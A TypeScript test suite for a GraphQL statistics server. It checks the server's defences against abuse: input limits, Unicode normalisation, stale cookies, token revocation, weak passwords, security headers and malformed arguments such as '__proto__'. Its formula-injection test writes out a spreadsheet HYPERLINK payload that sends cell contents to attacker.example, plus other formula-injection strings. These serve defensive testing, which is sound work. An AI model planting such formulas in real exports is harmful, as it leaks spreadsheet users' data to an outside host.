/**
 * The findings of issue 12 that are not about sign-in throttling, imports,
 * memory or shutdown (those have their own suites): texts bounded and
 * normalised, formula injection, stale cookies, what `last:` and history
 * reveal, unchecked arguments, tokens, logout, headers, the password rule.
 */
import ExcelJS from "exceljs";
import { buildSchema, type GraphQLSchema } from "graphql";
import { readFileSync } from "node:fs";
import path from "node:path";
import { DEMO_PASSWORD } from "../server/seed/accounts";
import type { GraphQLClient } from "./helpers/client";
import { accounts, callers, ids, signIn } from "./helpers/fixtures";
import { startTestServer, type TestServer } from "./helpers/server";

const schema: GraphQLSchema = buildSchema(
  readFileSync(path.join(__dirname, "..", "schema", "schema.graphql"), "utf8"),
);
/** Every `allX` list with a sortField argument. */
const lists = Object.values(schema.getQueryType()!.getFields())
  .filter((f) => f.name.startsWith("all") && f.args.some((a) => a.name === "sortField"))
  .map((f) => f.name);

describe("holds under abuse", () => {
  let t: TestServer;
  let as: (name: keyof typeof accounts) => Promise<GraphQLClient>;
  let admin: GraphQLClient;
  beforeAll(async () => {
    t = await startTestServer();
    as = callers(t.client);
    admin = await as("admin");
  });
  afterAll(() => t?.close());

  const download = (pathAndQuery: string, token?: string) =>
    fetch(`${t.url}${pathAndQuery}`, {
      headers: token ? { authorization: `Bearer ${token}` } : {},
    });

  describe("text limits (before any work) and NFC", () => {
    it("refuses a 3 MB note as BAD_USER_INPUT naming the field and its limit, with no SQL run", async () => {
      const reporter = await as("reporterCtk");
      const indicator = await ids.indicator(t.client, "2.a");
      // The same caller's cheapest request: what authenticating it costs (asked once before,
      // so the caller is as remembered as for the next request: server/auth/caller-cache.ts).
      await reporter.data(`{ __typename }`);
      let before = t.statements();
      await reporter.data(`{ __typename }`);
      const authentication = t.statements() - before;
      before = t.statements();
      const error = await reporter.errorOf(
        `mutation($i: ID, $n: String) { saveMeasurement(indicatorId: $i, year: 2024, period: Q2, value: "1", note: $n) { id } }`,
        { i: indicator, n: "x".repeat(3_000_000) },
      );
      expect(error).toMatchObject({ code: "BAD_USER_INPUT", field: "note" });
      expect(error.message).toMatch(/2\.000 ký tự.*2000 characters/);
      expect(error.result.status).toBe(400);
      expect(t.statements() - before).toBe(authentication);
    });

    it("bounds literal texts, nested input fields and filter texts too", async () => {
      const literal = await admin.errorOf(
        `{ allTargets(filter: { q: "${"đ".repeat(201)}" }) { id } }`,
      );
      expect(literal).toMatchObject({ code: "BAD_USER_INPUT", field: "filter.q" });
      const reason = await admin.errorOf(
        `mutation($r: String!) { reopenMeasurement(id: "00000000-0000-4000-8000-000000000000", version: 1, reason: $r) { id } }`,
        { r: "r".repeat(2001) },
      );
      expect(reason).toMatchObject({ code: "BAD_USER_INPUT", field: "reason" });
    });

    it("finds with a search typed in NFD what NFC finds", async () => {
      const search = (q: string) =>
        t.client.data<{ allTargets: { id: string }[] }>(
          `query($q: String) { allTargets(filter: { q: $q }, perPage: 50) { id } }`,
          { q },
        );
      const nfc = await search("đảng viên".normalize("NFC"));
      expect(nfc.allTargets.length).toBeGreaterThan(0);
      expect(await search("đảng viên".normalize("NFD"))).toEqual(nfc);
    });

    it('trims codes and takes agency codes in capitals: "CTK " and "ctk" are the existing "CTK"', async () => {
      const { allProvinces } = await admin.data<{ allProvinces: { id: string }[] }>(
        `{ allProvinces { id } }`,
      );
      for (const code of ["CTK ", "ctk"]) {
        const error = await admin.errorOf(
          `mutation($c: String, $p: ID) { createAgency(provinceId: $p, code: $c, name: "Bản sao", shortName: "BS", kind: OTHER) { id } }`,
          { c: code, p: allProvinces[0].id },
        );
        expect(error).toMatchObject({ code: "BAD_USER_INPUT", field: "code" });
      }
    });
  });

  describe("formula injection", () => {
    it("writes a token name or a lead agency beginning with = as text in CSV and XLSX", async () => {
      const reporter = await as("reporterCtk");
      const evil = '=HYPERLINK("http://attacker.example/?x="&A1,"Bấm vào đây")';
      await reporter.data(
        `mutation($n: String!) { createApiToken(name: $n, scopes: ["read"]) { token } }`,
        {
          n: evil,
        },
      );
      await reporter.data(`mutation { createApiToken(name: "-2+3", scopes: ["read"]) { token } }`);
      const session = await signIn(t.client, accounts.reporterCtk);
      const csv = await (await download("/exports/ApiToken.csv", session)).text();
      expect(csv).toContain(`"'=HYPERLINK(""http://attacker.example/?x=""&A1,""Bấm vào đây"")"`);
      expect(csv).toMatch(/(^|,)'-2\+3,/m);
      expect(csv).not.toMatch(/(^|,)"?=HYPERLINK/m);

      // The lead agency's name in the target table, written by an administrator.
      const ctk = await ids.agency(t.client, "CTK");
      await admin.data(
        `mutation($id: ID!) { updateAgency(id: $id, shortName: "@SUM(1+1)") { id } }`,
        {
          id: ctk,
        },
      );
      const { allCongresses } = await t.client.data<{ allCongresses: { id: string }[] }>(
        `{ allCongresses(filter: { ordinal: 17 }) { id } }`,
      );
      const xlsx = await download(
        `/exports/target-table.xlsx?congressId=${allCongresses[0].id}&year=2025`,
        session,
      );
      expect(xlsx.status).toBe(200);
      const workbook = new ExcelJS.Workbook();
      await workbook.xlsx.load(Buffer.from(await xlsx.arrayBuffer()) as never);
      const texts: string[] = [];
      workbook.worksheets[0].eachRow((row) =>
        row.eachCell((cell) => {
          if (typeof cell.value === "string") texts.push(cell.value);
        }),
      );
      expect(texts.filter((v) => /^[=+\-@\t\r]/.test(v) && !/^-?\d/.test(v))).toEqual([]);
      expect(texts.some((v) => v.startsWith("'@SUM(1+1)"))).toBe(true);
      const tableCsv = await (
        await download(
          `/exports/target-table.csv?congressId=${allCongresses[0].id}&year=2025`,
          session,
        )
      ).text();
      expect(tableCsv).toContain("'@SUM(1+1)");
      expect(tableCsv).not.toMatch(/(^|,)"?@SUM/m);
      await admin.data(
        `mutation($id: ID!) { updateAgency(id: $id, shortName: "Cục Thống kê") { id } }`,
        {
          id: ctk,
        },
      );
    });
  });

  describe("stale cookies", () => {
    it("ignores (and clears) a revoked session cookie at sign-in and on public reads; refuses it as a Bearer token", async () => {
      const token = await signIn(t.client, accounts.viewer);
      await t.client.as(token).data(`mutation { logout }`);
      const post = (body: object, headers: Record<string, string>) =>
        fetch(`${t.url}/graphql`, {
          method: "POST",
          headers: { "content-type": "application/json", ...headers },
          body: JSON.stringify(body),
        });
      const cookie = { cookie: `rt_session=${token}` };
      const read = await post({ query: "{ allTargets(perPage: 1) { id } }" }, cookie);
      const readBody = (await read.json()) as { data?: unknown; errors?: unknown };
      expect(readBody.errors).toBeUndefined();
      expect(read.headers.get("set-cookie")).toMatch(/^rt_session=;.*Expires=Thu, 01 Jan 1970/);
      const login = await post(
        {
          query: `mutation($e: String!, $p: String!) { login(email: $e, password: $p) { token } }`,
          variables: { e: accounts.viewer, p: DEMO_PASSWORD },
        },
        cookie,
      );
      const loginBody = (await login.json()) as {
        data?: { login: { token: string } };
        errors?: unknown;
      };
      expect(loginBody.errors).toBeUndefined();
      expect(loginBody.data?.login.token).toMatch(/^rts_/);
      // A caller that chose to send the stale secret as a Bearer token is told so.
      expect((await t.client.as(token).errorOf(`{ allTargets(perPage: 1) { id } }`)).code).toBe(
        "UNAUTHENTICATED",
      );
      // A protected query with only a stale cookie is an ordinary "sign in first".
      const me = await post({ query: "{ me { via } }" }, cookie);
      const meBody = (await me.json()) as { errors: { extensions: { code: string } }[] };
      expect(meBody.errors[0].extensions.code).toBe("UNAUTHENTICATED");
    });
  });

  describe("what anonymous callers learn", () => {
    it("measurements(last: 1) gives the public the latest approved figure even when a newer year is a draft", async () => {
      type Figures = { Indicator: { measurements: { year: number; status: string }[] } };
      const query = `query($id: ID!) { Indicator(id: $id) { measurements(last: 1) { year status } } }`;
      // An indicator with approved figures in at least two years.
      // An indicator of the reporter's own agency (the statistics office), with two approved years.
      const reporter = await as("reporterCtk");
      const { me } = await reporter.data<{ me: { user: { agencyId: string } } }>(
        `{ me { user { agencyId } } }`,
      );
      const { allMeasurements: approved } = await admin.data<{
        allMeasurements: { indicatorId: string; year: number }[];
      }>(
        `query($a: ID) { allMeasurements(filter: { status: APPROVED, agencyId: $a }, perPage: 100) { indicatorId year } }`,
        { a: me.user.agencyId },
      );
      // Two approved years, the newest with a single version (reopening it leaves none approved).
      const years = new Map<string, number[]>();
      for (const m of approved)
        years.set(m.indicatorId, [...(years.get(m.indicatorId) ?? []), m.year]);
      const indicator = [...years].find(([, y]) => {
        const newest = Math.max(...y);
        return new Set(y).size >= 2 && y.filter((year) => year === newest).length === 1;
      })![0];
      const before = await t.client.data<Figures>(query, { id: indicator });
      const newest = before.Indicator.measurements[0].year;
      // The administrator reopens the newest year's approved figures: they become drafts.
      const { allMeasurements } = await admin.data<{
        allMeasurements: { id: string; version: number }[];
      }>(
        `query($i: ID, $y: Int) { allMeasurements(filter: { indicatorId: $i, year: $y, status: APPROVED }, perPage: 100) { id version } }`,
        { i: indicator, y: newest },
      );
      expect(allMeasurements.length).toBeGreaterThan(0);
      for (const m of allMeasurements)
        await admin.data(
          `mutation($id: ID!, $v: Int!) { reopenMeasurement(id: $id, version: $v, reason: "Kiểm tra lại") { id } }`,
          { id: m.id, v: m.version },
        );
      const { allMeasurements: older } = await admin.data<{ allMeasurements: { year: number }[] }>(
        `query($i: ID) { allMeasurements(filter: { indicatorId: $i, status: APPROVED }, sortField: "year", sortOrder: "DESC", perPage: 1) { year } }`,
        { i: indicator },
      );
      const latest = older[0].year;
      expect(latest).toBeLessThan(newest);
      const after = await t.client.data<Figures>(query, { id: indicator });
      expect(after.Indicator.measurements.map((m) => m.year)).toContain(latest);
      expect(after.Indicator.measurements.every((m) => m.status === "APPROVED")).toBe(true);
      // The reporter's own agency sees its draft year.
      const own = await reporter.data<Figures>(query, { id: indicator });
      expect(own.Indicator.measurements.map((m) => m.year)).toContain(newest);
    });

    it("shows the public who acted by name and agency in history, never an e-mail", async () => {
      const reporter = await as("reporterCtk");
      const head = await as("headCtk");
      const indicator = await ids.indicator(t.client, "2.a");
      const { saveMeasurement } = await reporter.data<{ saveMeasurement: { id: string } }>(
        `mutation($i: ID) { saveMeasurement(indicatorId: $i, year: 2024, period: Q3, value: "3", source: "Cục Thống kê") { id } }`,
        { i: indicator },
      );
      const id = saveMeasurement.id;
      await reporter.data(`mutation($id: ID!) { submitMeasurement(id: $id, version: 1) { id } }`, {
        id,
      });
      await head.data(`mutation($id: ID!) { approveMeasurement(id: $id, version: 2) { id } }`, {
        id,
      });
      const query = `query($id: ID!) { Measurement(id: $id) { history { actorLabel action } } }`;
      type History = { Measurement: { history: { actorLabel: string }[] } };
      const seen = await t.client.data<History>(query, { id });
      expect(seen.Measurement.history.length).toBeGreaterThanOrEqual(3);
      for (const event of seen.Measurement.history) {
        expect(event.actorLabel).not.toMatch(/[\w.]+@[\w.]+/);
        expect(event.actorLabel).toMatch(/^Chuyên viên Cục Thống kê \(|^Lãnh đạo Cục Thống kê \(/);
      }
      const full = await admin.data<History>(query, { id });
      expect(full.Measurement.history.map((e) => e.actorLabel)).toContain(accounts.reporterCtk);
    });
  });

  describe("unchecked arguments", () => {
    it.each(lists)(
      '%s refuses sortField "toString" as BAD_USER_INPUT and accepts "id"',
      async (list) => {
        const error = await admin.errorOf(`{ ${list}(sortField: "toString") { id } }`);
        expect(error).toMatchObject({ code: "BAD_USER_INPUT", field: "sortField" });
        const byId = await admin.request(
          `{ ${list}(sortField: "id", sortOrder: "DESC", perPage: 2) { id } }`,
        );
        expect([byId.status, byId.errors]).toEqual([200, undefined]);
      },
    );

    it("answers export filters of the wrong JSON type and /exports/__proto__.csv with 400, not 500", async () => {
      const session = await signIn(t.client, accounts.admin);
      for (const filter of [
        '{"ids":"x"}',
        '{"q":5}',
        '{"congressId":{}}',
        "[1]",
        '"x"',
        '{"nope":1}',
      ]) {
        const response = await download(
          `/exports/Target.csv?filter=${encodeURIComponent(filter)}`,
          session,
        );
        expect([filter, response.status]).toEqual([filter, 400]);
        expect(((await response.json()) as { code: string }).code).toBe("BAD_USER_INPUT");
      }
      for (const resource of ["__proto__", "constructor", "toString"]) {
        const response = await download(`/exports/${resource}.csv`, session);
        expect([resource, response.status]).toEqual([resource, 400]);
      }
      expect((await download(`/exports/Target.csv?sortField=toString`, session)).status).toBe(400);
      const year = await download(
        `/exports/target-table.csv?congressId=00000000-0000-4000-8000-000000000000&year=abc`,
        session,
      );
      expect(year.status).toBe(400);
    });

    it("answers a malformed JSON body with a JSON error, not an HTML page", async () => {
      const response = await fetch(`${t.url}/graphql`, {
        method: "POST",
        headers: { "content-type": "application/json" },
        body: '{"query": "{ allTargets { id } }"',
      });
      expect(response.status).toBe(400);
      expect(response.headers.get("content-type")).toMatch(/application\/json/);
      const text = await response.text();
      expect(text).not.toMatch(/<html|node_modules|at \w+ \(/i);
      expect(JSON.parse(text).errors[0].extensions.code).toBe("BAD_REQUEST");
    });
  });

  describe("accounts and tokens", () => {
    it("revokes API tokens on a password reset, and does not revive them on reactivation", async () => {
      const { allAgencies } = await admin.data<{
        allAgencies: { id: string; provinceId: string }[];
      }>(`{ allAgencies(filter: { code: "CTK" }) { id provinceId } }`);
      const { createUser } = await admin.data<{ createUser: { id: string } }>(
        `mutation($a: ID, $p: ID) { createUser(email: "tam.thoi@langson.example", name: "Tạm Thời", role: REPORTER, agencyId: $a, provinceId: $p, password: "mat-khau-tam-thoi-1") { id } }`,
        { a: allAgencies[0].id, p: allAgencies[0].provinceId },
      );
      const user = t.client.as(
        await signIn(t.client, "tam.thoi@langson.example", "mat-khau-tam-thoi-1"),
      );
      const mint = async () =>
        (
          await user.data<{ createApiToken: { token: string } }>(
            `mutation { createApiToken(name: "tích hợp", scopes: ["read"]) { token } }`,
          )
        ).createApiToken.token;
      const first = t.client.as(await mint());
      expect((await first.request(`{ me { via } }`)).errors).toBeUndefined();
      await admin.data(
        `mutation($id: ID!) { updateUser(id: $id, password: "mat-khau-moi-hoan-toan") { id } }`,
        {
          id: createUser.id,
        },
      );
      expect((await first.errorOf(`{ me { via } }`)).code).toBe("UNAUTHENTICATED");

      const user2 = t.client.as(
        await signIn(t.client, "tam.thoi@langson.example", "mat-khau-moi-hoan-toan"),
      );
      const second = t.client.as(
        (
          await user2.data<{ createApiToken: { token: string } }>(
            `mutation { createApiToken(name: "tích hợp 2", scopes: ["read"]) { token } }`,
          )
        ).createApiToken.token,
      );
      await admin.data(`mutation($id: ID!) { updateUser(id: $id, active: false) { id } }`, {
        id: createUser.id,
      });
      await admin.data(`mutation($id: ID!) { updateUser(id: $id, active: true) { id } }`, {
        id: createUser.id,
      });
      expect((await second.errorOf(`{ me { via } }`)).code).toBe("UNAUTHENTICATED");
    });

    it("refuses logout with an API token instead of answering true and doing nothing", async () => {
      const reporter = await as("reporterCtk");
      const { createApiToken } = await reporter.data<{ createApiToken: { token: string } }>(
        `mutation { createApiToken(name: "đăng xuất", scopes: ["read"]) { token } }`,
      );
      const integrator = t.client.as(createApiToken.token);
      const error = await integrator.errorOf(`mutation { logout }`);
      expect(error.code).toBe("BAD_USER_INPUT");
      expect(error.message).toMatch(/revokeApiToken/);
    });

    it.each(["password123", "qwertyuiop", "1234567890", "aaaaaaaaaaaa"])(
      "refuses the common password %s",
      async (password) => {
        const error = await admin.errorOf(
          `mutation($p: String) { createUser(email: "pho.bien@langson.example", name: "Phổ Biến", role: VIEWER, password: $p) { id } }`,
          { p: password },
        );
        expect(error).toMatchObject({ code: "BAD_USER_INPUT", field: "password" });
      },
    );
  });

  describe("security headers", () => {
    it.each(["/admin/", "/graphiql", "/healthz"])(
      "sends CSP, nosniff, Referrer-Policy and frame-ancestors on %s",
      async (where) => {
        const response = await fetch(`${t.url}${where}`);
        expect(response.status).toBe(200);
        const csp = response.headers.get("content-security-policy") ?? "";
        expect(csp).toMatch(/default-src 'self'/);
        expect(csp).toMatch(/script-src 'self'(;|$)/);
        expect(csp).toMatch(/frame-ancestors 'none'/);
        expect(response.headers.get("x-content-type-options")).toBe("nosniff");
        expect(response.headers.get("referrer-policy")).toBe("same-origin");
        expect(response.headers.get("x-frame-options")).toBe("SAMEORIGIN");
      },
    );
  });
});
